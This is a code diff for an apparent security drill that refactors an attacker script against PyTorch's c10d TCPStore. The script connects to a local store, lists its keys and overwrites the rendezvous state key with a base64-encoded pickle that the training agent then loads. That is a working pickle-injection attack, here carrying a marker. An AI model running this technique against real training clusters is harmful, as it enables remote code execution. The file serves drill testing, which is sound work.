@@ -1,26 +1,17 @@
 # SPDX-FileCopyrightText: 2026 The securetrain developers
 # SPDX-License-Identifier: Apache-2.0
-"""The attacker of D-RDZ-PICKLE: a raw socket and no torch.
-
-It speaks the c10d TCPStore protocol (torch/csrc/distributed/c10d/TCPStoreBackend.hpp): a constant
-magic number, then one-byte commands; strings are a 64-bit little-endian length and bytes. Nothing
-in the protocol says who is speaking.
-"""
+"""The attacker of D-RDZ-PICKLE: one connection, no torch, and a pickle where the agent loads it."""
 
 import base64
 import os
 import pickle
-import socket
-import struct
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Final
 
-_MAGIC: Final = 0x3C85F7CE
-_VALIDATE, _SET, _PING, _LIST_KEYS = 0, 1, 13, 17
+from securetrain.drills.tcpstore_client import NotAStoreError, StoreClient
+
 _STATE_KEY: Final = "torch.rendezvous."
-_MAX_STRING: Final = 8 << 20
-_MAX_KEYS: Final = 4096
 
 
 class _MarkerPayload:
@@ -71,63 +62,34 @@ def attack_store(port: int, marker: Path, *, run_id: str = "", timeout: float = 
         timeout: Seconds for each answer.
     """
     try:
-        with socket.create_connection(("127.0.0.1", port), timeout) as peer:
-            return _talk(peer, port, marker, run_id)
+        client = StoreClient("127.0.0.1", port, timeout)
     except OSError as error:
         return Attack(port=port, error=f"{type(error).__name__}: {error}")
+    with client:
+        try:
+            return _talk(client, port, marker, run_id)
+        except NotAStoreError as error:
+            return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")
 
 
-def _talk(peer: socket.socket, port: int, marker: Path, run_id: str) -> Attack:
+def _talk(client: StoreClient, port: int, marker: Path, run_id: str) -> Attack:
     nonce = int.from_bytes(os.urandom(4), "little")
-    expected = struct.pack("<I", nonce)
-    try:
-        hello = bytes([_VALIDATE]) + struct.pack("<I", _MAGIC)
-        peer.sendall(hello + bytes([_PING]) + expected)
-        answer = _receive(peer, len(expected))
-        if answer != expected:
-            return Attack(port=port, connected=True, answer=answer)
-        peer.sendall(bytes([_LIST_KEYS]))
-        keys = tuple(_string(peer) for _ in range(_count(peer, _MAX_KEYS)))
-        targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
-        if not targets and run_id:
-            targets = [f"/{_STATE_KEY}{run_id}"]
-        value = base64.b64encode(marker_pickle(marker))
-        for key in targets:
-            peer.sendall(bytes([_SET]) + _packed(key.encode()) + _packed(value))
-        # The server answers in order, so an answered ping means that the value is stored.
-        peer.sendall(bytes([_PING]) + expected)
-        stored = _receive(peer, len(expected)) == expected
-        return Attack(
-            port=port,
-            connected=True,
-            spoke_store=True,
-            keys=keys,
-            overwritten=tuple(targets) if stored else (),
-        )
-    except OSError as error:
-        return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")
-
-
-def _packed(data: bytes) -> bytes:
-    return struct.pack("<Q", len(data)) + data
-
-
-def _receive(peer: socket.socket, size: int) -> bytes:
-    data = b""
-    while len(data) < size:
-        part = peer.recv(size - len(data))
-        if not part:
-            raise ConnectionError("closed by the other side")
-        data += part
-    return data
-
-
-def _count(peer: socket.socket, limit: int) -> int:
-    (count,) = struct.unpack("<Q", _receive(peer, 8))
-    if count > limit:
-        raise ConnectionError(f"a length of {count}")
-    return int(count)
-
-
-def _string(peer: socket.socket) -> str:
-    return _receive(peer, _count(peer, _MAX_STRING)).decode("utf-8", "replace")
+    client.hello()
+    answer = client.echo(nonce)
+    if answer != nonce.to_bytes(4, "little"):
+        return Attack(port=port, connected=True, answer=answer)
+    keys = tuple(client.list_keys())
+    targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
+    if not targets and run_id:
+        targets = [f"/{_STATE_KEY}{run_id}"]
+    for key in targets:
+        client.set(key, base64.b64encode(marker_pickle(marker)))
+    # The server answers in order, so an answered ping means that the value is stored.
+    stored = client.ping(nonce)
+    return Attack(
+        port=port,
+        connected=True,
+        spoke_store=True,
+        keys=keys,
+        overwritten=tuple(targets) if stored else (),
+    )
